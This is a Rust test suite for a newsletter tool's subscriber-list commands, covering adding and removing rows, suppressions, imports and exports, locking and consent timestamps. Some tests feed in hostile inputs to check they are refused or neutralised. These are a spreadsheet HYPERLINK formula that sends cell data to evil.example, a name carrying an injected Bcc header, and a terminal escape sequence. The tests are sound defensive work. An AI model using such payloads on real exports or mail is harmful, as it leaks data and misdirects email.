use crate::harness::{Project, run_in};

#[test]
fn bad_rows_are_reported_with_their_line_and_good_rows_stay_usable() {
    let project = Project::fixture("invalid-lists");
    let out = project.run(&["subscribers", "check"]);
    assert_eq!(out.code, 1, "{}", out.stderr);
    insta::assert_snapshot!(out.stderr);
    let check = project.run(&["check"]);
    assert_eq!(check.code, 1, "check fails until the rows are fixed");
    let audience = project.run(&["audience", "weekly/2016-12-09-first", "--format", "json"]);
    assert_eq!(audience.code, 0, "{}", audience.stderr);
    let report: serde_json::Value = serde_json::from_str(&audience.stdout).expect("json");
    let recipients = report["total"].as_u64().expect("total");
    assert_eq!(recipients, 3, "ruth (once), ruth+news and the IDN address: {report:#}");
}

#[test]
fn audience_is_the_union_minus_suppressions_and_inactive_rows() {
    let project = Project::fixture("lists");
    let total = |project: &Project| -> serde_json::Value {
        let out = project.run(&["audience", "weekly/2016-12-09-first", "--format", "json"]);
        assert_eq!(out.code, 0, "{}", out.stderr);
        serde_json::from_str(&out.stdout).expect("json")
    };
    let before = total(&project);
    // weekly: ruth, both, bob (pending and gone are not active); briefing: Both (duplicate), tom, ruth+briefing.
    assert_eq!(before["total"], 5, "{before:#}");
    assert_eq!(before["lists"][1]["duplicates"], 1, "{before:#}");
    assert_eq!(project.run(&["unsubscribe", "bob@example.com"]).code, 0);
    assert_eq!(project.run(&["unsubscribe", "tom@example.net", "--list", "weekly"]).code, 0, "scoped to another list");
    assert_eq!(project.run(&["unsubscribe", "BOTH@example.org", "--list", "weekly"]).code, 0);
    let after = total(&project);
    // bob: gone everywhere; tom: only suppressed on weekly, still on briefing; both: suppressed on weekly but mailed
    // through briefing.
    assert_eq!(after["total"], 4, "{after:#}");
    assert_eq!(after["lists"][0]["suppressed"], 2, "{after:#}");
    assert_eq!(project.run(&["resubscribe", "bob@example.com"]).code, 0);
    assert_eq!(total(&project)["total"], 5);
}

#[test]
fn suppressions_are_listed_and_idempotent() {
    let project = Project::fixture("lists");
    assert_eq!(project.run(&["unsubscribe", "ruth@example.org", "--reason", "complained"]).code, 0);
    let again = project.run(&["unsubscribe", "Ruth@Example.org"]);
    assert!(again.stderr.contains("already suppressed"), "{}", again.stderr);
    let out = project.run(&["suppressions", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    let rows = json["suppressions"].as_array().expect("array");
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["reason"], "complained", "the first record is kept");
    assert_eq!(rows[0]["scope"], "*");
    assert_eq!(rows[0]["created_at"], "2026-11-22T09:30:00Z");
    let bad = project.run(&["unsubscribe", "not an address"]);
    assert_eq!(bad.code, 2);
}

#[test]
fn add_and_remove_keep_every_other_byte() {
    let project = Project::fixture("lists");
    let before = project.read("subscribers/weekly.csv");
    let out = project.run(&[
        "subscribers",
        "add",
        "weekly",
        "Siobhan@Example.ORG",
        "--name",
        "Siobhán O’Neill",
        "--attr",
        "region=North West",
    ]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let after = project.read("subscribers/weekly.csv");
    assert!(after.starts_with(&before), "existing rows untouched");
    assert_eq!(&after[before.len()..], "Siobhan@example.org,Siobhán O’Neill,North West,active\n");
    let removed = project.run(&["subscribers", "remove", "weekly", "siobhan@example.org"]);
    assert_eq!(removed.code, 0, "{}", removed.stderr);
    assert_eq!(project.read("subscribers/weekly.csv"), before);
    assert_eq!(project.run(&["subscribers", "remove", "weekly", "siobhan@example.org"]).code, 2);
    // A near-miss of a column is refused rather than added.
    let typo = project.run(&["subscribers", "add", "weekly", "x@example.org", "--attr", "regoin=pro"]);
    assert_eq!(typo.code, 2);
    assert!(typo.stderr.contains("no `regoin` column; did you mean `region`?"), "{}", typo.stderr);
    assert_eq!(project.read("subscribers/weekly.csv"), before);
}

#[test]
fn add_with_an_attribute_the_list_lacks_adds_its_column_in_the_same_write() {
    let project = Project::fixture("lists");
    project.write("subscribers/weekly.csv", "email,name\r\nruth@example.org,\"Akande, Ruth\"\r\n");
    // The README's own example, on a list without a `region` column.
    let out =
        project.run(&["subscribers", "add", "weekly", "ann@example.org", "--name", "Ann", "--attr", "region=London"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("added the column `region` to `weekly`"), "{}", out.stderr);
    assert_eq!(
        project.read("subscribers/weekly.csv"),
        "email,name,region\r\nruth@example.org,\"Akande, Ruth\",\r\nann@example.org,Ann,London\r\n"
    );
    let reserved = project.run(&["subscribers", "add", "weekly", "bo@example.org", "--attr", "Status=x"]);
    assert_eq!(reserved.code, 2, "{}", reserved.stderr);
    assert!(reserved.stderr.contains("`status` is not an attribute"), "{}", reserved.stderr);
    std::fs::remove_file(project.path().join("subscribers/weekly.csv")).expect("remove");
    let fresh = project.run(&["subscribers", "add", "weekly", "ann@example.org", "--attr", "region=London"]);
    assert_eq!(fresh.code, 0, "{}", fresh.stderr);
    assert_eq!(
        project.read("subscribers/weekly.csv"),
        "email,name,status,subscribed_at,region\nann@example.org,,active,2026-11-22T09:30:00Z,London\n"
    );
}

#[test]
fn columns_are_listed_added_and_renamed() {
    let project = Project::fixture("lists");
    let list = project.run(&["subscribers", "columns", "weekly"]);
    assert_eq!((list.code, list.stdout.as_str()), (0, "email\nname\nregion\nstatus\n"), "{}", list.stderr);
    let before = project.read("subscribers/weekly.csv");
    assert_eq!(project.run(&["subscribers", "columns", "weekly", "--add", "plan"]).code, 0);
    let after = project.read("subscribers/weekly.csv");
    assert_eq!(after.lines().next(), Some("email,name,region,status,plan"));
    for (old, new) in before.lines().zip(after.lines()).skip(1) {
        assert_eq!(new, format!("{old},"), "every row keeps its bytes and gains an empty cell");
    }
    let renamed = project.run(&["subscribers", "columns", "weekly", "--rename", "region", "area"]);
    assert_eq!(renamed.code, 0, "{}", renamed.stderr);
    assert_eq!(project.read("subscribers/weekly.csv").lines().next(), Some("email,name,area,status,plan"));
    for (args, message) in [
        (&["--rename", "email", "address"][..], "the `email` column cannot be renamed"),
        (&["--rename", "area", "Name"], "already has a column `name`"),
        (&["--add", "STATUS"], "already has a column `status`"),
        (&["--rename", "nope", "x"], "has no column `nope`"),
        (&["--add", "a\nb"], "must fit on one line"),
    ] {
        let mut command = vec!["subscribers", "columns", "weekly"];
        command.extend_from_slice(args);
        let out = project.run(&command);
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(out.stderr.contains(message), "{args:?}: {}", out.stderr);
    }
    assert_eq!(project.read("subscribers/weekly.csv").lines().next(), Some("email,name,area,status,plan"));
    assert_eq!(project.run(&["subscribers", "check", "weekly"]).code, 0);
}

#[test]
fn unsubscribe_documents_its_reasons_and_keeps_a_note() {
    let project = Project::fixture("lists");
    let help = project.run(&["unsubscribe", "--help"]);
    assert_eq!(help.code, 0);
    for value in ["unsubscribed:", "bounced:", "complained:", "manual:", "--note <TEXT>"] {
        assert!(help.stdout.contains(value), "{value}: {}", help.stdout);
    }
    let noted = ["unsubscribe", "bob@example.com", "--reason", "unsubscribed", "--note", "asked by phone, 21 Nov"];
    assert_eq!(project.run(&noted).code, 0);
    assert_eq!(project.run(&["unsubscribe", "tom@example.net", "--list", "briefing"]).code, 0);
    let text = project.run(&["suppressions"]).stdout;
    assert_eq!(
        text,
        "bob@example.com\t*\tunsubscribed\t2026-11-22T09:30:00Z\tcli\tasked by phone, 21 Nov\n\
         tom@example.net\tbriefing\tmanual\t2026-11-22T09:30:00Z\tcli\n"
    );
    let json: serde_json::Value =
        serde_json::from_str(&project.run(&["suppressions", "--format", "json"]).stdout).expect("json");
    assert_eq!(json["suppressions"][0]["note"], "asked by phone, 21 Nov");
    assert_eq!(json["suppressions"][1]["note"], serde_json::Value::Null);
    for bad in ["two\nlines", "a\tb", "\u{1b}[2J"] {
        let out = project.run(&["unsubscribe", "ruth@example.org", "--note", bad]);
        assert_eq!(out.code, 2, "{bad:?}: {}", out.stderr);
        assert!(out.stderr.contains("a note must be one line of text"), "{}", out.stderr);
    }
    assert_eq!(project.run(&["suppressions"]).stdout, text, "nothing recorded");
}

#[test]
fn header_injection_in_a_name_is_refused() {
    let project = Project::fixture("lists");
    let out = project.run(&["subscribers", "add", "weekly", "x@example.org", "--name", "X\r\nBcc: victim@example.com"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(!project.read("subscribers/weekly.csv").contains("victim"));
    let tab = project.run(&["subscribers", "add", "weekly", "x@example.org", "--name", "X\tY"]);
    assert_eq!(tab.code, 2, "{}", tab.stderr);
    assert!(tab.stderr.contains("the value of `name` contains a control character"), "{}", tab.stderr);
    assert!(!project.read("subscribers/weekly.csv").contains("x@example.org"));
}

#[test]
fn two_processes_adding_at_once_lose_nothing() {
    let project = Project::fixture("lists");
    let dir = project.path().to_path_buf();
    let writers: Vec<_> = (0..2)
        .map(|w| {
            let dir = dir.clone();
            std::thread::spawn(move || {
                for i in 0..15 {
                    let email = format!("writer{w}-{i}@example.org");
                    let out = run_in(&dir, &["subscribers", "add", "weekly", &email]);
                    assert_eq!(out.code, 0, "{}", out.stderr);
                }
            })
        })
        .collect();
    for writer in writers {
        writer.join().expect("writer");
    }
    let list = project.read("subscribers/weekly.csv");
    for w in 0..2 {
        for i in 0..15 {
            assert_eq!(list.matches(&format!("writer{w}-{i}@example.org,")).count(), 1, "writer{w}-{i}");
        }
    }
}

#[test]
fn a_writer_killed_before_the_rename_leaves_the_list_intact() {
    let project = Project::fixture("lists");
    let before = std::fs::read(project.path().join("subscribers/weekly.csv")).expect("read");
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_letterpress"))
        .args(["subscribers", "add", "weekly", "crash@example.org"])
        .current_dir(project.path())
        .env("LETTERPRESS_CRASH_BEFORE_RENAME", "1")
        .output()
        .expect("run");
    assert!(!output.status.success(), "the writer died");
    assert_eq!(std::fs::read(project.path().join("subscribers/weekly.csv")).expect("read"), before);
    let check = project.run(&["subscribers", "check"]);
    assert_eq!(check.code, 0, "a leftover temporary file is not a list: {}", check.stderr);
    assert_eq!(project.run(&["subscribers", "add", "weekly", "crash@example.org"]).code, 0, "the lock was released");
}

#[test]
fn imports_map_each_tools_export_and_never_resurrect_suppressed_addresses() {
    let project = Project::fixture("lists");
    assert_eq!(project.run(&["unsubscribe", "gone@example.net"]).code, 0);
    let fixtures = crate::harness::fixture_dir("imports");
    let import = |file: &str, extra: &[&str]| {
        let path = fixtures.join(file);
        let mut args = vec!["subscribers", "import", "weekly", path.to_str().expect("utf-8")];
        args.extend_from_slice(extra);
        let out = project.run(&args);
        assert_eq!(out.code, 0, "{file}: {}", out.stderr);
        out.stderr.replace(fixtures.to_str().expect("utf-8"), "<fixtures>")
    };
    let reports: Vec<String> =
        ["mailchimp.csv", "listmonk.csv", "substack.csv", "buttondown.csv"].iter().map(|f| import(f, &[])).collect();
    insta::assert_snapshot!(reports.join("\n"));
    let list = project.read("subscribers/weekly.csv");
    assert!(list.contains("siobhan.oneill@example.org,Siobhán O’Neill,,"), "{list}");
    assert!(list.contains("ruth@example.org,Ruth Akande-Smith,London,"), "name updated, other cells kept: {list}");
    assert!(list.contains("priya@example.net,Priya Raghunathan,Midlands,"), "listmonk attributes: {list}");
    assert!(list.contains("unconfirmed@example.org,,,pending"), "{list}");
    assert!(!list.contains("blocked@example.net") && !list.contains("disabled@example.com"), "{list}");
    assert_eq!(list.matches("gone@example.net").count(), 1, "the existing row only: {list}");
    let suppressions = project.run(&["suppressions"]).stdout;
    assert!(suppressions.contains("blocked@example.net\tweekly\tunsubscribed"), "{suppressions}");
    let resubscribed = import("buttondown.csv", &["--resubscribe"]);
    assert!(resubscribed.contains("lifted 1 suppressions"), "{resubscribed}");
    let list = project.read("subscribers/weekly.csv");
    let gone: Vec<_> = list.lines().filter(|l| l.starts_with("gone@example.net,")).collect();
    assert_eq!(gone.len(), 1, "{list}");
    // `subscribed_at` was added after `status` by the first import, which dates its subscribers.
    assert_eq!(gone[0].split(',').nth(3), Some("active"), "the row they asked back into is active again: {list}");
    let export = project.run(&["subscribers", "export", "weekly"]).stdout;
    assert!(export.contains("gone@example.net"), "and they will be mailed: {export}");
}

#[test]
fn export_prints_only_who_would_be_mailed() {
    let project = Project::fixture("lists");
    assert_eq!(project.run(&["unsubscribe", "bob@example.com", "--list", "weekly"]).code, 0);
    let out = project.run(&["subscribers", "export", "weekly"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stdout,
        "email,name,region,status\nruth@example.org,Ruth Akande,London,active\nboth@example.org,On Both Lists,North West,active\n"
    );
    let all = project.run(&["subscribers", "list", "weekly"]);
    assert_eq!(all.stdout.lines().count(), 6);
}

#[test]
fn export_and_list_write_names_and_attributes_a_spreadsheet_reads_as_text() {
    let project = Project::fixture("lists");
    project.write(
        "subscribers/weekly.csv",
        "email,name,region,status\n\
         -dash@example.org,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\",+44 20,active\n\
         at@example.org,@jo,-1,active\n\
         plain@example.org,Jo = Smith,North West,active\n",
    );
    let want = "email,name,region,status\n\
                -dash@example.org,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\",'+44 20,active\n\
                at@example.org,'@jo,'-1,active\n\
                plain@example.org,Jo = Smith,North West,active\n";
    for command in ["export", "list"] {
        let out = project.run(&["subscribers", command, "weekly"]);
        assert_eq!(out.code, 0, "{}", out.stderr);
        assert_eq!(out.stdout, want, "{command}: the address stays as it is, the free text is inert");
    }
}

#[test]
fn count_reports_every_list_and_fails_for_one_it_cannot_read() {
    let project = Project::fixture("lists");
    let all = project.run(&["subscribers", "count"]);
    assert_eq!(all.code, 0, "{}", all.stderr);
    assert_eq!(
        all.stdout,
        "weekly\t5 rows\t3 active\t0 suppressed\t1 unsubscribed\t0 bounced\t1 pending\t0 invalid\n\
         briefing\t3 rows\t3 active\t0 suppressed\t0 unsubscribed\t0 bounced\t0 pending\t0 invalid\n"
    );
    assert_eq!(project.run(&["unsubscribe", "BOB@example.com"]).code, 0);
    assert_eq!(project.run(&["unsubscribe", "tom@example.net", "--list", "weekly"]).code, 0, "not on weekly");
    assert_eq!(project.run(&["unsubscribe", "Both@example.org", "--list", "briefing"]).code, 0);
    assert_eq!(project.run(&["unsubscribe", "gone@example.net"]).code, 0, "already marked in the file");
    let one = project.run(&["subscribers", "count", "weekly"]);
    assert_eq!(one.code, 0, "{}", one.stderr);
    assert_eq!(one.stdout, "weekly\t5 rows\t2 active\t1 suppressed\t1 unsubscribed\t0 bounced\t1 pending\t0 invalid\n");
    let briefing = project.run(&["subscribers", "count", "briefing"]).stdout;
    assert_eq!(briefing, "briefing\t3 rows\t2 active\t1 suppressed\t0 unsubscribed\t0 bounced\t0 pending\t0 invalid\n");
    assert_eq!(project.run(&["subscribers", "count", "nope"]).code, 2);
    std::fs::remove_file(project.path().join("subscribers/weekly.csv")).expect("remove");
    let missing = project.run(&["subscribers", "count"]);
    assert_eq!(missing.code, 1, "{}", missing.stderr);
    assert!(missing.stderr.contains("subscribers/weekly.csv`: no such file or directory"), "{}", missing.stderr);
    assert_eq!(
        missing.stdout,
        "briefing\t3 rows\t2 active\t1 suppressed\t0 unsubscribed\t0 bounced\t0 pending\t0 invalid\n"
    );
    project.write("subscribers/briefing.csv", "name\nNo Address\n");
    let broken = project.run(&["subscribers", "count"]);
    assert_eq!(broken.code, 1, "{}", broken.stderr);
    assert!(broken.stderr.contains("subscribers/briefing.csv:1:1"), "the header error, located: {}", broken.stderr);
    assert_eq!(broken.stdout, "", "no list could be counted");
}

/// The names in `.letterpress/` (none when it does not exist).
fn state_files(project: &Project) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir(project.path().join(".letterpress")) else { return Vec::new() };
    let mut names: Vec<String> =
        entries.map(|e| e.expect("an entry").file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    names
}

#[test]
fn commands_that_only_read_or_fail_create_no_state() {
    let project = Project::fixture("lists");
    let issue = "weekly/2016-12-09-first";
    for args in [
        &["audience", issue][..],
        &["subscribers", "export", "weekly"],
        &["suppressions"],
        &["send", issue, "--dry-run", "--force"],
    ] {
        let out = project.run(args);
        assert_eq!(out.code, 0, "{args:?}: {}", out.stderr);
        assert!(!project.path().join(".letterpress").exists(), "{args:?} created state");
    }
    assert_eq!(project.run(&["resubscribe", "ruth@example.org"]).code, 2, "nothing to lift");
    assert!(!project.path().join(".letterpress").exists(), "a failed resubscribe created state");
    let failing: [&[&str]; 3] =
        [&["audience", issue], &["subscribers", "export", "weekly"], &["send", issue, "--dry-run", "--force"]];
    let good = project.read("subscribers/weekly.csv");
    project.write("subscribers/weekly.csv", "name\nNo Address\n");
    for args in failing {
        let out = project.run(args);
        assert_eq!(out.code, 1, "{args:?}: {}", out.stderr);
        assert_eq!(state_files(&project), Vec::<String>::new(), "{args:?}");
    }
    project.write("subscribers/weekly.csv", &good);
    assert_eq!(project.run(&["unsubscribe", "bob@example.com"]).code, 0, "recording a suppression creates the store");
    let before = state_files(&project);
    assert_eq!(before, ["state.db"]);
    project.write("subscribers/weekly.csv", "name\nNo Address\n");
    for args in failing {
        assert_eq!(project.run(args).code, 1, "{args:?}");
        assert_eq!(state_files(&project), before, "{args:?}: no key file, nothing new");
    }
}

#[test]
fn imports_keep_each_tools_subscription_time_as_consent_evidence() {
    let project = Project::fixture("lists");
    let fixtures = crate::harness::fixture_dir("imports");
    for file in ["mailchimp.csv", "listmonk.csv", "substack.csv", "buttondown.csv"] {
        let path = fixtures.join(file);
        let out = project.run(&["subscribers", "import", "briefing", path.to_str().expect("utf-8")]);
        assert_eq!(out.code, 0, "{file}: {}", out.stderr);
    }
    let list = project.read("subscribers/briefing.csv");
    assert!(list.starts_with("email,name,region,status,subscribed_at\n"), "the column was added: {list}");
    let time = |email: &str| -> String {
        let row =
            list.lines().find(|l| l.starts_with(&format!("{email},"))).unwrap_or_else(|| panic!("{email}: {list}"));
        row.rsplit(',').next().expect("a last cell").to_owned()
    };
    assert_eq!(time("siobhan.oneill@example.org"), "2016-12-01T09:05:00Z", "Mailchimp CONFIRM_TIME first");
    assert_eq!(time("ruth@example.org"), "2016-01-01T09:00:00Z", "then OPTIN_TIME");
    assert_eq!(time("migrated@example.org"), "2015-06-30T23:59:59Z", "then LAST_CHANGED");
    assert_eq!(time("priya@example.net"), "2020-01-01T10:00:00Z", "listmonk created_at");
    assert_eq!(time("reader@example.com"), "2021-05-01T00:00:00Z", "Substack created_at");
    assert_eq!(time("new.reader@example.org"), "2022-07-01T07:00:00Z", "Buttondown creation_date, in UTC");
    assert_eq!(time("tom@example.net"), "", "rows already there keep theirs");
    assert!(!list.contains("2026-11-22"), "never the time of the import: {list}");
    assert_eq!(project.run(&["subscribers", "check", "briefing"]).code, 0);
    let bad = project.path().join("bad-time.csv");
    std::fs::write(&bad, "email,created_at\nlate@example.org,next tuesday\n").expect("write");
    let out = project.run(&["subscribers", "import", "briefing", bad.to_str().expect("utf-8")]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains(":2: `created_at` value `next tuesday` is not a date and time"), "{}", out.stderr);
    assert!(!project.read("subscribers/briefing.csv").contains("late@example.org"));
}

#[test]
fn only_resubscribe_force_lifts_a_bounce_and_a_list_resubscribe_narrows_an_unsubscribe() {
    let project = Project::fixture("lists");
    assert_eq!(project.run(&["unsubscribe", "ruth@example.org", "--reason", "bounced"]).code, 0);
    assert_eq!(project.run(&["unsubscribe", "bob@example.com"]).code, 0);
    project.write("export.csv", "email,name,status\nruth@example.org,Ruth,active\nbob@example.com,Bob,active\n");
    let export = project.path().join("export.csv");
    let import = project.run(&["subscribers", "import", "weekly", export.to_str().expect("utf-8"), "--resubscribe"]);
    assert_eq!(import.code, 0, "{}", import.stderr);
    assert!(import.stderr.contains("lifted 1 suppressions"), "bob's unsubscribe only: {}", import.stderr);
    assert!(import.stderr.contains("export.csv:2: ruth@example.org (bounced)"), "{}", import.stderr);
    let held = project.run(&["suppressions"]).stdout;
    let rows: Vec<&str> = held.lines().map(|l| l.rsplit_once('\t').map_or(l, |(row, _)| row)).collect();
    assert_eq!(
        rows,
        [
            "bob@example.com\tbriefing\tmanual\t2026-11-22T09:30:00Z",
            "ruth@example.org\t*\tbounced\t2026-11-22T09:30:00Z"
        ],
        "a bounce survives an import; a global unsubscribe is narrowed to the other lists"
    );
    let refused = project.run(&["resubscribe", "ruth@example.org"]);
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    assert!(refused.stderr.contains("--force"), "{}", refused.stderr);
    assert_eq!(project.run(&["suppressions"]).stdout, held, "nothing lifted");
    let forced = project.run(&["resubscribe", "ruth@example.org", "--force"]);
    assert_eq!(forced.code, 0, "{}", forced.stderr);
    let narrowed = project.run(&["unsubscribe", "tom@example.net", "--reason", "unsubscribed"]);
    assert_eq!(narrowed.code, 0);
    let one = project.run(&["resubscribe", "tom@example.net", "--list", "briefing"]);
    assert_eq!(one.code, 0, "a global unsubscribe is lifted for the list named: {}", one.stderr);
    let after = project.run(&["suppressions"]).stdout;
    assert!(after.contains("tom@example.net\tweekly\tunsubscribed"), "{after}");
    assert!(!after.contains("ruth@example.org") && !after.contains("tom@example.net\t*"), "{after}");
}

#[test]
fn a_quote_never_closed_is_an_error_for_the_list_and_no_edit_lands_inside_it() {
    let project = Project::fixture("lists");
    let open = "email,name,region,status\nruth@example.org,\"Ruth Akande,London,\nboth@example.org,On Both Lists,North West,active\n";
    project.write("subscribers/weekly.csv", open);
    let expected = "subscribers/weekly.csv:2:18";
    let check = project.run(&["subscribers", "check", "weekly"]);
    assert_eq!(check.code, 1, "{}", check.stderr);
    assert!(
        check.stderr.contains("the quote opened at line 2, column 18 is never closed")
            && check.stderr.contains(expected),
        "{}",
        check.stderr
    );
    let export = project.run(&["subscribers", "export", "weekly"]);
    assert_eq!(export.code, 1, "the rest of the list is not silently dropped: {}", export.stderr);
    let audience = project.run(&["audience", "weekly/2016-12-09-first"]);
    assert_eq!(audience.code, 1, "{}", audience.stderr);
    assert!(audience.stderr.contains(expected), "{}", audience.stderr);
    project.write("export.csv", "email,name\nnew@example.org,New\n");
    let export = project.path().join("export.csv");
    for args in [
        &["subscribers", "add", "weekly", "new@example.org", "--name", "New"][..],
        &["subscribers", "import", "weekly", export.to_str().expect("utf-8")],
        &["subscribers", "remove", "weekly", "both@example.org"],
    ] {
        let out = project.run(args);
        assert_ne!(out.code, 0, "{args:?}: {}", out.stderr);
        assert!(out.stderr.contains(expected), "{args:?}: {}", out.stderr);
        assert!(!out.stderr.contains("added"), "{args:?}: {}", out.stderr);
        assert_eq!(project.read("subscribers/weekly.csv"), open, "{args:?}: nothing written");
    }
}

#[test]
fn import_skips_rows_that_do_not_fit_the_header_or_are_not_utf8() {
    let project = Project::fixture("lists");
    let before = project.read("subscribers/briefing.csv");
    let shift = project.path().join("shift.csv");
    std::fs::write(
        &shift,
        b"email,name,region\nanna@example.org,Smith, Anna,Wales\nshort@example.org\nf@example.org,Jos\xe9,\n",
    )
    .expect("write");
    let out = project.run(&["subscribers", "import", "briefing", shift.to_str().expect("utf-8")]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("imported 0 new"), "{}", out.stderr);
    assert!(out.stderr.contains("skipped 3 invalid:"), "{}", out.stderr);
    assert!(out.stderr.contains("shift.csv:2: row has 4 fields but the header has 3"), "{}", out.stderr);
    assert!(out.stderr.contains("shift.csv:3: row has 1 fields but the header has 3"), "{}", out.stderr);
    assert!(out.stderr.contains("shift.csv:4: `name` is not valid UTF-8"), "{}", out.stderr);
    assert_eq!(project.read("subscribers/briefing.csv"), before, "nothing written");
}

#[test]
fn within_one_export_the_first_occurrence_of_an_address_wins() {
    let project = Project::fixture("lists");
    project.write("d2.csv", "email,name,status\ndup@example.org,First,\nDUP@example.org,Second,unsubscribed\n");
    let export = project.path().join("d2.csv");
    let out = project.run(&["subscribers", "import", "briefing", export.to_str().expect("utf-8")]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("imported 1 new, 0 updated, 1 unchanged"), "{}", out.stderr);
    assert!(!out.stderr.contains("recorded"), "{}", out.stderr);
    assert!(project.read("subscribers/briefing.csv").contains("dup@example.org,First,"));
    let suppressions = project.run(&["suppressions"]);
    assert!(!suppressions.stdout.contains("dup@example.org"), "{}", suppressions.stdout);
}

#[test]
fn import_resubscribe_keeps_a_row_the_list_marks_bounced() {
    let project = Project::fixture("lists");
    project.write(
        "subscribers/weekly.csv",
        "email,name,region,status\nhard@example.org,Hard,,bounced\ngone@example.net,Gone Person,,unsubscribed\n",
    );
    project.write("export.csv", "email\nhard@example.org\ngone@example.net\n");
    let export = project.path().join("export.csv");
    let out = project.run(&["subscribers", "import", "weekly", export.to_str().expect("utf-8"), "--resubscribe"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("imported 0 new, 1 updated, 0 unchanged"), "{}", out.stderr);
    assert!(out.stderr.contains("kept 1 bounced"), "{}", out.stderr);
    let list = project.read("subscribers/weekly.csv");
    assert!(list.contains("hard@example.org,Hard,,bounced\n"), "{list}");
    assert!(list.contains("gone@example.net,Gone Person,,active"), "an unsubscribe is lifted: {list}");
}

#[cfg(unix)]
#[test]
fn editing_a_list_that_is_a_symbolic_link_keeps_the_link() {
    let project = Project::fixture("lists");
    std::fs::create_dir_all(project.path().join("data")).expect("mkdir");
    std::fs::rename(project.path().join("subscribers/weekly.csv"), project.path().join("data/weekly.csv"))
        .expect("move");
    let link = project.path().join("subscribers/weekly.csv");
    std::os::unix::fs::symlink("../data/weekly.csv", &link).expect("symlink");
    let out = project.run(&["subscribers", "add", "weekly", "sym@example.org"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(std::fs::symlink_metadata(&link).expect("stat").file_type().is_symlink(), "still a link");
    assert!(project.read("data/weekly.csv").contains("sym@example.org"), "the linked file was edited");
}

#[test]
fn a_complaint_in_an_export_is_recorded_as_one_and_resubscribe_does_not_lift_it() {
    let project = Project::fixture("lists");
    project.write("spam.csv", "email,subscriber_type\nspam@example.org,spammy\n");
    let spam = project.path().join("spam.csv");
    let out = project.run(&["subscribers", "import", "briefing", spam.to_str().expect("utf-8")]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let suppressions = project.run(&["suppressions"]).stdout;
    assert!(suppressions.contains("spam@example.org\tbriefing\tcomplained"), "{suppressions}");
    project.write("back.csv", "email\nspam@example.org\n");
    let back = project.path().join("back.csv");
    let out = project.run(&["subscribers", "import", "briefing", back.to_str().expect("utf-8"), "--resubscribe"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stderr.contains("back.csv:2: spam@example.org (complained)"), "{}", out.stderr);
    assert!(!project.read("subscribers/briefing.csv").contains("spam@example.org"));
}
